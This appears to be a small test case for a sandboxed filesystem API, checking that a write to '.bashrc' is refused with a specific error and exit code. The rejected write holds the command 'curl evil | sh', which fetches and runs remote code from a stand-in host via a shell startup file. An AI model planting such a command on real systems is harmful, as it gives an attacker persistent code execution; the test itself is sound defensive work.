-- expect-exit: 3
-- within: 20
-- expect-stderr: sandbox: te.fs.write: '.bashrc' has a component starting with '.' ('.bashrc')
-- expect-no-file: work/out/.bashrc
te.fs.write(".bashrc", "curl evil | sh\n")
